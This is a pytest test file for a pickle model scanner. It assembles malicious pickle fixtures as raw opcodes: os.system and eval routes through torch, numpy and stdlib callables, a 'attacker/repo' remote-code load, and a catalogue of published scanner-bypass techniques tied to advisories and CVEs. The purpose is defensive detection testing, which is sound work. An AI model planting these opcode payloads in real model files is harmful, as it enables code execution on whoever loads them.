"""The import policy of the model scanner (issue 12): which names a pickle may reference.

Malicious fixtures are opcode bytes (nothing that runs code is ever pickled or loaded);
each is checked to be a real attack by a recording unpickler: CPython's own ``_pickle``
reads it and asks for the dangerous name, but ``find_class`` returns a recorder instead
of importing anything. Benign fixtures are made by the real libraries.
"""

from __future__ import annotations
import __future__

import io
import pickle
import struct
import warnings
from dataclasses import dataclass

import joblib  # type: ignore[import-untyped]
import numpy as np
import pytest
import torch

from keyscope.model import ModelFinding
from keyscope.modelfiles.analyzer import analyze_model
from keyscope.modelfiles.policy import Tier, classify
from tests.test_model_files import PAYLOAD, p4, stack_global, torch_zip, u

SEVERITY = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}


def worst(findings: list[ModelFinding]) -> str:
    return max((f.severity.label for f in findings), key=SEVERITY.__getitem__, default="none")


def call(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` as STACK_GLOBAL + TUPLE + REDUCE, protocol 4."""
    return p4(stack_global(module, name) + b"(" + b"".join(args) + b"tR")


# --- the recording unpickler ----------------------------------------------------------
class _Recorder:
    def __init__(self, log: list[str], name: str) -> None:
        self._log = log
        self._name = name

    def __call__(self, *args: object, **kwargs: object) -> _Recorder:
        self._log.append(f"call {self._name}")
        return _Recorder(self._log, f"{self._name}()")

    def __setstate__(self, state: object) -> None:
        self._log.append(f"setstate {self._name}")


def loader_resolves(data: bytes) -> list[str]:
    """What CPython's unpickler asks for and calls, with every name replaced by a
    recorder (nothing is imported). Stops where the real loader would raise."""
    log: list[str] = []

    class Recording(pickle.Unpickler):
        def find_class(self, module: str, name: str) -> object:
            log.append(f"import {module}.{name}")
            return _Recorder(log, f"{module}.{name}")

    try:
        Recording(io.BytesIO(data)).load()
    except Exception as exc:  # the loader stops here; what it did before is logged
        log.append(f"raises {type(exc).__name__}")
    return log


# --- 1. library functions are not trusted because their package is -------------------
@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch.utils.bottleneck.__main__", "run_cprofile"),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("torch.fx.graph_module", "reduce_graph_module"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        ("transformers", "AutoModel.from_pretrained"),
        ("scipy", "LowLevelCallable"),
        ("numpy", "memmap"),
        ("numpy", "DataSource"),
        ("joblib", "Memory"),
        ("pandas.core.computation.eval", "eval"),
        ("numpy", "ndarray.tofile"),  # a method of an allowed class that writes files
    ],
)
def test_code_running_library_callables_are_critical(module: str, name: str) -> None:
    data = call(module, name, u(PAYLOAD))
    assert f"import {module}.{name}" in loader_resolves(data)
    assert worst(analyze_model("m.pkl", data)) == "critical"


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch.nn.modules.module", "Module.register_forward_hook"),  # a method
        ("torch.utils.checkpoint", "checkpoint"),  # a function not on a list
        ("numpy", "vectorize"),  # a lowercase class not on a list
        ("sklearn.base", "BaseEstimator.set_params"),
        ("torch", "Tensor.__reduce_ex__.x"),  # dunder walk: never
    ],
)
def test_unlisted_library_callables_are_never_info(module: str, name: str) -> None:
    """Before: any name under torch/numpy/sklearn/... was a 'library class' (info)."""
    data = call(module, name, u("x"))
    assert worst(analyze_model("m.pkl", data)) in ("medium", "critical")
    assert classify(module, name) >= Tier.UNKNOWN


def test_library_classes_stay_info_only_as_classes() -> None:
    assert classify("torch.nn.modules.linear", "Linear") == Tier.ESTIMATOR
    assert classify("sklearn.tree._tree", "Tree") == Tier.ESTIMATOR
    assert classify("torch.nn.modules.linear", "Linear.forward") == Tier.UNKNOWN
    assert classify("torch.nn.functional", "relu") == Tier.ESTIMATOR  # named one by one
    assert classify("torch.nn.functional", "interpolate") == Tier.UNKNOWN


# --- 2. names that run code are never-allowed, not medium ----------------------------
@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("linecache", "getline"),
        ("test.support.script_helper", "assert_python_ok"),
        ("_interpreters", "create"),
        ("_xxsubinterpreters", "run_string"),
        ("_xxsubinterpreters", "create"),
        ("concurrent.futures.process", "ProcessPoolExecutor"),
        ("commands", "getoutput"),
        ("tkinter", "Tcl"),
        ("pipes", "Template"),
        ("zipfile", "ZipFile"),
        ("tarfile", "open"),
        ("rlcompleter", "Completer.complete"),
        ("copyreg", "add_extension"),
        ("unittest.mock", "patch"),
        ("atexit", "register"),
        ("faulthandler", "dump_traceback_later"),
        ("_frozen_importlib", "_call_with_frames_removed"),
        ("gzip", "open"),
        ("codecs", "open"),
        ("xml.dom.minidom", "parse"),
        ("uuid", "getnode"),
        ("selectors", "DefaultSelector"),
        ("mmap", "mmap"),
        ("_posixsubprocess", "fork_exec"),
        ("builtins", "map"),
        ("builtins", "filter"),
        ("builtins", "help"),
        ("builtins", "memoryview"),
        ("builtins", "type"),
        ("builtins", "vars"),
        ("pathlib", "Path.write_text"),  # pathlib.Path is allowed, its writers are not
        ("_sitebuiltins", "_Helper"),
    ],
)
def test_code_running_stdlib_names_are_critical(module: str, name: str) -> None:
    """Before: these were 'unknown-import' (medium), or not seen as dangerous at all."""
    data = call(module, name, u(PAYLOAD))
    assert f"import {module}.{name}" in loader_resolves(data)
    assert worst(analyze_model("m.pkl", data)) == "critical"


# --- 3. harmless names are not flagged -----------------------------------------------
def test_pure_builtins_and_future_flags_are_clean() -> None:
    """pickle.dumps of builtins.len, ranges, slices, exceptions and a __future__ flag
    (all real pickles): before, builtins.len and __future__ were flagged."""
    value = {
        "f": len,
        "g": [abs, min, max, sorted, round, isinstance],
        "r": range(3),
        "s": slice(1, 9, 2),
        "c": complex(1, 2),
        "fs": frozenset({1}),
        "e": ValueError("bad"),
        "k": KeyError("k"),
        "future": __future__.annotations,
    }
    for proto in (0, 2, 4, 5):
        assert analyze_model("meta.pkl", pickle.dumps(value, protocol=proto)) == []
    assert analyze_model("f.pkl", p4(stack_global("__future__", "annotations"))) == []
    assert analyze_model("f.pkl", p4(stack_global("builtins", "len"))) == []


@pytest.mark.parametrize(
    "name",
    ["eval", "exec", "compile", "open", "__import__", "getattr", "setattr", "delattr",
     "breakpoint", "input", "globals", "locals", "exit", "quit"],
)  # fmt: skip
def test_code_running_builtins_are_critical(name: str) -> None:
    assert worst(analyze_model("m.pkl", call("builtins", name, u("x")))) == "critical"


def _whole(obj: object) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _matrix() -> object:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", PendingDeprecationWarning)  # still pickled by many
        return np.matrix([[1, 2]])


def test_real_library_objects_are_at_most_info() -> None:
    """Whole modules and objects pickled by torch, numpy and joblib reference library
    functions (F.relu, torch._C._nn.gelu, _load_from_bytes, numpy's masked-array and
    seed-sequence reconstructors): each is named, so none is medium."""
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.GELU(), torch.nn.LayerNorm(4))
    layer = torch.nn.TransformerEncoderLayer(d_model=8, nhead=2, dim_feedforward=16)
    gelu_layer = torch.nn.TransformerEncoderLayer(8, 2, 16, activation=torch.nn.functional.gelu)
    opt = torch.optim.AdamW(model.parameters())
    files = {
        "model.pt": _whole(model),
        "layer.pt": _whole(layer),
        "gelu_layer.pt": _whole(gelu_layer),
        "optimizer_object.pt": _whole(opt),
        "tensors.pkl": pickle.dumps({"w": torch.ones(3), "i": torch.arange(4)}, protocol=2),
        "tensors_p4.pkl": pickle.dumps({"w": torch.ones(3)}, protocol=4),
        "numpy.pkl": pickle.dumps(
            {
                "rs": np.random.RandomState(0),
                "g": np.random.default_rng(1),
                "ma": np.ma.masked_array([1, 2], [0, 1]),
                "dt": np.datetime64("2020-01-01"),
            }
        ),
        # NumPy's lowercase ndarray subclasses (joblib's own test pickles hold matrices)
        "numpy_subclasses.pkl": pickle.dumps(
            {"m": _matrix(), "r": np.rec.array([(1, 2.0)], dtype="i4,f8")}
        ),
    }
    buf = io.BytesIO()
    joblib.dump({"g": np.random.default_rng(2), "ma": np.ma.masked_array([1.0])}, buf)
    files["numpy.joblib"] = buf.getvalue()
    for name, data in files.items():
        assert worst(analyze_model(name, data)) in ("none", "info"), name


def test_numpy_1_0_era_array_pickles_are_info() -> None:
    """NumPy's own test file py2-np0-objarr.npy rebuilds its array through
    numpy.core._internal._reconstruct (ndarray.__new__), which numpy.load still
    resolves: a named rebuilder, not an unknown import. Written as the opcodes that
    file holds (protocol 2): the rebuilder called with ndarray, a shape and a dtype code."""
    data = (
        b"\x80\x02cnumpy.core._internal\n_reconstruct\nq\x00cnumpy\nndarray\nq\x01"
        b"K\x00\x85q\x02U\x01b\x87q\x03Rq\x04."
    )
    assert worst(analyze_model("py2-np0-objarr.pkl", data)) in ("none", "info")


def test_scientific_stack_objects_are_at_most_info() -> None:
    sklearn = pytest.importorskip("sklearn")
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.random.RandomState(0).rand(20, 3)
    y = np.arange(20) % 2
    estimators = (
        GradientBoostingClassifier(n_estimators=2),
        KNeighborsClassifier(2),
        RandomForestClassifier(n_estimators=2, random_state=0),
        make_pipeline(StandardScaler(), LogisticRegression()),
    )
    for est in estimators:
        fitted = est.fit(x, y)
        buf = io.BytesIO()
        joblib.dump(fitted, buf)
        for name, data in (("model.pkl", pickle.dumps(fitted)), ("model.joblib", buf.getvalue())):
            assert worst(analyze_model(name, data)) in ("none", "info"), (sklearn, est, name)


# --- 4. published scanner bypasses, one fixture per technique ----------------------
@dataclass(frozen=True)
class Technique:
    name: str  # fixture file name
    what: str  # the technique and where it was published
    data: bytes
    needle: str  # a name the loader resolves (checked with the recording unpickler)


def _zip_with_flags(pickle_bytes: bytes) -> bytes:
    """torch zip whose data.pkl entry has general-purpose flag bit 0 ('encrypted') set in
    both headers: Python's zipfile refuses it, torch's reader ignores the flag."""
    raw = bytearray(torch_zip(pickle_bytes))
    local = raw.rfind(b"PK\x03\x04", 0, raw.find(b"archive/data.pkl") + 1)
    raw[local + 6] |= 1
    central = raw.rfind(b"PK\x01\x02", 0, raw.rfind(b"archive/data.pkl") + 1)
    raw[central + 8] |= 1
    return bytes(raw)


def adversarial() -> list[Technique]:
    """One fixture per published technique (payload: a harmless echo)."""
    echo = u(PAYLOAD)
    out: list[Technique] = []

    # (file, technique and where it was published, module, name, arguments)
    # fmt: off
    named: list[tuple[str, str, str, str, tuple[bytes, ...]]] = [
        # Library functions trusted because their package is
        ("bottleneck_run_cprofile.pkl", "run_cprofile execs a code string (picklescan "
         "advisory)", "torch.utils.bottleneck.__main__", "run_cprofile",
         (u("import os; os.system('echo keyscope')"), b"}", b"}")),
        ("bottleneck_autograd_prof.pkl", "run_autograd_prof execs a code string (picklescan "
         "advisory)", "torch.utils.bottleneck.__main__", "run_autograd_prof",
         (u("import os"), b"}")),
        ("config_module_load_config.pkl", "ConfigModule.load_config is pickle.loads "
         "(picklescan advisory)", "torch.utils._config_module", "ConfigModule.load_config",
         (b"N", u("x"))),
        ("datapipes_basichandlers.pkl", "basichandlers unpickles its data (picklescan "
         "advisory)", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
         (u("pickle"), echo)),
        ("jit_execwrapper.pkl", "execWrapper runs exec (picklescan advisory)",
         "torch.jit.unsupported_tensor_ops", "execWrapper", (echo,)),
        ("dynamo_guardbuilder_get.pkl", "GuardBuilder.get evals (picklescan advisory)",
         "torch._dynamo.guards", "GuardBuilder.get", (b"N", echo)),
        ("shapeenv_guards.pkl", "ShapeEnv.evaluate_guards_expression evals (picklescan "
         "advisory)", "torch.fx.experimental.symbolic_shapes",
         "ShapeEnv.evaluate_guards_expression", (b"N", echo)),
        ("fx_reduce_graph_module.pkl", "reduce_graph_module execs the pickled forward() "
         "source", "torch.fx.graph_module", "reduce_graph_module", (b"}", echo)),
        ("f2py_getlincoef.pkl", "numpy.f2py getlincoef evals (picklescan, fickling)",
         "numpy.f2py.crackfortran", "getlincoef", (echo, b"}")),
        ("transformers_from_pretrained.pkl", "from_pretrained with trust_remote_code fetches "
         "and runs code", "transformers", "AutoModel.from_pretrained", (u("attacker/repo"),)),
        ("numpy_memmap.pkl", "numpy.memmap creates and maps files", "numpy", "memmap",
         (u("/tmp/keyscope-x"),)),
        # Names that run code but were medium here or missed by other scanners
        ("linecache_getline.pkl", "linecache.getline reads any file", "linecache", "getline",
         (u("/dev/null"), b"K\x01")),
        ("script_helper.pkl", "assert_python_ok spawns Python (picklescan advisory)",
         "test.support.script_helper", "assert_python_ok", (u("-c"), u("print(1)"))),
        ("interpreters_create.pkl", "subinterpreter (fickling GHSA-6ggj-6f2q-f7mx)",
         "_interpreters", "create", (b")",)),
        ("xxsubinterpreters_run.pkl", "run_string (fickling GHSA-6ggj-6f2q-f7mx)",
         "_xxsubinterpreters", "run_string", (b"K\x00", u("print(1)"))),
        ("asyncio_subprocess_transport.pkl", "_UnixSubprocessTransport._start "
         "(CVE-2025-10157, JFrog)", "asyncio.unix_events", "_UnixSubprocessTransport._start",
         (b"N", echo)),
        ("distutils_write_file.pkl", "write_file (picklescan advisory)",
         "distutils.file_util", "write_file", (u("/tmp/keyscope-x"), b"]")),
        ("profile_run.pkl", "Profile.run execs (picklescan GHSA-46h3-79wf-xr6c)",
         "profile", "Profile.run", (b"N", echo)),
        ("trace_runctx.pkl", "Trace.runctx execs (picklescan advisory)", "trace",
         "Trace.runctx", (b"N", echo)),
        ("bdb_run.pkl", "Bdb.run execs (picklescan, fickling)", "bdb", "Bdb.run",
         (b"N", echo)),
        ("code_runcode.pkl", "InteractiveInterpreter.runcode (picklescan)", "code",
         "InteractiveInterpreter.runcode", (b"N", echo)),
        ("idlelib_runcode.pkl", "ModifiedInterpreter.runcode (picklescan "
         "GHSA-r8g5-cgf2-4m4m)", "idlelib.pyshell", "ModifiedInterpreter.runcode",
         (b"N", echo)),
        ("lib2to3_make_label.pkl", "ParserGenerator.make_label evals (picklescan advisory)",
         "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (b"N", b"N", echo)),
        ("ensurepip_run_pip.pkl", "ensurepip._run_pip (picklescan advisory)", "ensurepip",
         "_run_pip", (b"]",)),
        ("pyrepl_pipe_pager.pkl", "pipe_pager runs a shell command (picklescan advisory)",
         "_pyrepl.pager", "pipe_pager", (u("x"), echo)),
        ("osx_support_read_output.pkl", "_read_output runs a command (picklescan advisory)",
         "_osx_support", "_read_output", (echo,)),
        ("mailcap_findmatch.pkl", "findmatch runs a test command (ModelScan PR #346)",
         "mailcap", "findmatch", (b"}", u("text/plain"))),
        ("pydoc_pipepager.pkl", "pipepager runs a shell command (picklescan)", "pydoc",
         "pipepager", (u("x"), echo)),
        ("operator_itemgetter.pkl", "itemgetter (picklescan GHSA-m273-6v24-x4m4)",
         "operator", "itemgetter", (u("system"),)),
        ("logging_filehandler.pkl", "logging.FileHandler creates files (picklescan)",
         "logging", "FileHandler", (u("/tmp/keyscope-x"),)),
        ("cloudpickle_make_function.pkl", "_make_function builds a function from code "
         "(picklescan)", "cloudpickle.cloudpickle", "_make_function",
         (b"N", b"}", b"N", b"N", b"N")),
        ("types_codetype.pkl", "types.CodeType builds code (picklescan)", "types",
         "CodeType", (echo,)),
        ("requests_get.pkl", "requests.api.get exfiltrates (picklescan)", "requests.api",
         "get", (u("http://127.0.0.1:9/"),)),
        ("copyreg_add_extension.pkl", "add_extension registers a name a later EXT opcode "
         "loads", "copyreg", "add_extension", (u("os"), u("system"), b"K\xf0")),
        ("zipfile_extract.pkl", "zipfile.ZipFile opens and extracts archives", "zipfile",
         "ZipFile", (u("/dev/null"),)),
        ("builtins_map.pkl", "builtins.map calls what it is given (fickling allows it)",
         "builtins", "map", (b"N", b"]")),
    ]
    # fmt: on
    for file, what, module, name, args in named:
        out.append(Technique(file, f"{module}.{name}: {what}", call(module, name, *args),
                             f"{module}.{name}"))  # fmt: skip

    # (pip.main, uuid._get_command_stdout, importlib.import_module and pkgutil.resolve_name,
    # also published bypasses, are in tests/test_model_files.py and the benchmark already.)

    # Opcode-level techniques
    out.append(
        Technique(
            "raw_pickle.pt",
            "a plain pickle named .pt, which torch.load runs as a legacy file while a "
            "scanner expecting a zip gives up (CVE-2025-10155, JFrog)",
            p4(stack_global("os", "system") + echo + b"\x85R"),
            "os.system",
        )
    )
    mixed_memo = (
        u("os")
        + b"q\x00"  # BINPUT 0
        + u("system")
        + b"q\x01"  # BINPUT 1
        + u("torch._utils")
        + b"\x94"  # MEMOIZE: memo[2], a scanner counting MEMOIZE says 0
        + u("_rebuild_tensor_v2")
        + b"\x94"
        + b"0000"
        + b"h\x00h\x01\x93"
        + echo
        + b"\x85R"
    )
    out.append(
        Technique(
            "memo_put_memoize_mix.pkl",
            "BINPUT and MEMOIZE mixed so that a "
            "scanner tracking only MEMOIZE sees torch._utils (picklescan #14)",
            p4(mixed_memo),
            "os.system",
        )
    )
    missing_memo = p4(stack_global("os", "system") + echo + b"\x85R0" + b"h\x63h\x64\x93")
    out.append(
        Technique(
            "missing_memo_after_payload.pkl",
            "payload, then a BINGET of a memo "
            "entry never put, which crashes some scanners (ModelScan PR #348)",
            missing_memo,
            "os.system",
        )
    )
    ext = b"\x80\x02" + b"c" + b"copyreg\nadd_extension\n" + b"(S'os'\nS'system'\nK\xf0tR0"
    ext += b"\x82\xf0" + b"(S'" + PAYLOAD.encode() + b"'\ntR."
    out.append(
        Technique(
            "ext_registered_inline.pkl",
            "copyreg.add_extension, then EXT1 of that code",
            ext,
            "copyreg.add_extension",
        )
    )
    partial = p4(
        stack_global("functools", "partial") + stack_global("os", "system") + echo + b"\x86R)R"
    )
    out.append(
        Technique(
            "functools_partial.pkl",
            "functools.partial(os.system, ...)() (fickling PR #210)",
            partial,
            "functools.partial",
        )
    )
    attrgetter = p4(
        stack_global("operator", "attrgetter")
        + u("system")
        + b"\x85R"
        + stack_global("importlib", "import_module")
        + u("os")
        + b"\x85R"
        + b"\x85R"
        + echo
        + b"\x85R"
    )
    out.append(
        Technique(
            "attrgetter_import_module.pkl",
            "attrgetter('system')(import_module('os'))(...) (picklescan #66)",
            attrgetter,
            "operator.attrgetter",
        )
    )
    # Pickle-recognition and parsing divergences (the emulator's area): the loader runs
    # these; a scanner that does not recognise or parse them as _pickle does misses them.
    out.append(
        Technique(
            "headerless_unicode.pkl",
            "no PROTO header; the stream starts with UNICODE operands for STACK_GLOBAL",
            b"Vos\nVsystem\n\x93" + echo + b"\x85R.",
            "os.system",
        )
    )
    out.append(
        Technique(
            "headerless_string.pkl",
            "no PROTO header; starts with a STRING",
            b"S'os'\nS'system'\n\x93" + echo + b"\x85R.",
            "os.system",
        )
    )
    out.append(
        Technique(
            "headerless_mark.pkl",
            "no PROTO header; starts with MARK then GLOBAL (protocol 0 call via OBJ)",
            b"(cos\nsystem\nS'" + PAYLOAD.encode() + b"'\no.",
            "os.system",
        )
    )
    out.append(
        Technique(
            "trailing_bytes.pkl",
            "payload pickle followed by bytes that are no pickle (the loader stops at STOP)",
            p4(stack_global("os", "system") + echo + b"\x85R") + b"\x00\xffPK trailing junk",
            "os.system",
        )
    )
    out.append(
        Technique(
            "int_base0.pkl",
            "INT written 0o1 (_pickle parses base 0) before the "
            "payload: a scanner using int() breaks there",
            b"\x80\x02I0o1\n0cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR.",
            "os.system",
        )
    )
    body = stack_global("os", "system") + echo + b"\x85R"
    out.append(
        Technique(
            "frame_short.pkl",
            "FRAME that declares 1 byte: the opcodes that "
            "follow cross the frame end, which _pickle accepts",
            b"\x80\x04\x95" + struct.pack("<Q", 1) + body + b".",
            "os.system",
        )
    )
    # Nested checkpoints
    inner = torch_zip(p4(stack_global("os", "system") + echo + b"\x85R"))
    ints = b"(" + b"".join(b"K" + bytes([c]) for c in inner) + b"l"
    out.append(
        Technique(
            "load_from_bytes_computed.pkl",
            "torch.storage._load_from_bytes("
            "bytes(list of ints)): the nested checkpoint is never a literal",
            p4(
                stack_global("torch.storage", "_load_from_bytes")
                + stack_global("builtins", "bytes")
                + ints
                + b"\x85R\x85R"
            ),
            "torch.storage._load_from_bytes",
        )
    )
    out.append(
        Technique(
            "zip_flag_bits.pt",
            "torch zip whose data.pkl has the 'encrypted' flag bit set (CVE-2025-1945)",
            _zip_with_flags(p4(stack_global("os", "system") + echo + b"\x85R")),
            "",
        )
    )
    return out


ADVERSARIAL = adversarial()
NOT_ASSERTED: set[str] = set()  # every fixture is caught (they all stay in the benchmark)


@pytest.mark.parametrize("technique", ADVERSARIAL, ids=lambda t: t.name)
def test_every_fixture_is_a_real_attack(technique: Technique) -> None:
    if technique.data.startswith(b"PK"):
        pytest.skip("a container: the loader check applies to the pickle inside")
    log = loader_resolves(technique.data)
    assert f"import {technique.needle}" in log, log


@pytest.mark.parametrize(
    "technique", [t for t in ADVERSARIAL if t.name not in NOT_ASSERTED], ids=lambda t: t.name
)
def test_published_bypasses_are_critical(technique: Technique) -> None:
    assert worst(analyze_model(technique.name, technique.data)) == "critical", technique.what


def test_load_from_bytes_is_judged_by_its_argument() -> None:
    """torch.storage._load_from_bytes runs torch.load(weights_only=False): literal
    bytes (how pickle.dumps writes a tensor, at every protocol) are scanned as a nested
    checkpoint, magic number or not; an argument computed at load time cannot be."""
    lfb = stack_global("torch.storage", "_load_from_bytes")
    for protocol in range(6):
        plain = pickle.dumps({"t": torch.zeros(3)}, protocol=protocol)
        assert worst(analyze_model("t.pkl", plain)) == "info", protocol
    headerless = b"cos\nsystem\n(S'echo x'\ntR."
    literal = p4(lfb + b"C" + bytes([len(headerless)]) + headerless + b"\x85R")
    assert worst(analyze_model("lit.pkl", literal)) == "critical"
    inner = torch_zip(p4(stack_global("builtins", "print") + u("hi") + b"\x85R"))
    ints = b"(" + b"".join(b"K" + bytes([c]) for c in inner) + b"l"
    computed = p4(lfb + stack_global("builtins", "bytes") + ints + b"\x85R\x85R")
    findings = analyze_model("computed.pkl", computed)
    assert worst(findings) == "critical"
    assert any("not literal bytes" in d for f in findings for d in f.details)


def test_load_from_bytes_of_a_large_protocol_2_tensor() -> None:
    """Protocols 0-2 write bytes as _codecs.encode(str, 'latin1'): for a tensor over the
    16 MiB copy limit the nested checkpoint is read from that str (as latin-1 bytes),
    so pickle.dumps of a large tensor is info, and a payload hidden the same way is seen."""
    big = pickle.dumps(torch.zeros(5_000_000), protocol=2)  # 20 MB
    assert len(big) > 16 * 1024 * 1024
    assert worst(analyze_model("big.pkl", big)) == "info"
    payload = b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD.encode()
    nested = payload + b"\x85R." + bytes(range(128, 256)) * (17 * 1024 * 1024 // 128)
    text = nested.decode("latin-1").encode("utf-8")  # as BINUNICODE holds it
    hidden = (
        b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n"
        + b"X" + struct.pack("<I", len(text)) + text
        + b"X\x06\x00\x00\x00latin1\x86R\x85R."
    )
    findings = analyze_model("hidden.pkl", hidden)
    assert worst(findings) == "critical"
    # found inside the nested checkpoint (not only "argument not literal")
    assert any(f.verdict == "executes-code" and "os.system" in f.sentence for f in findings)
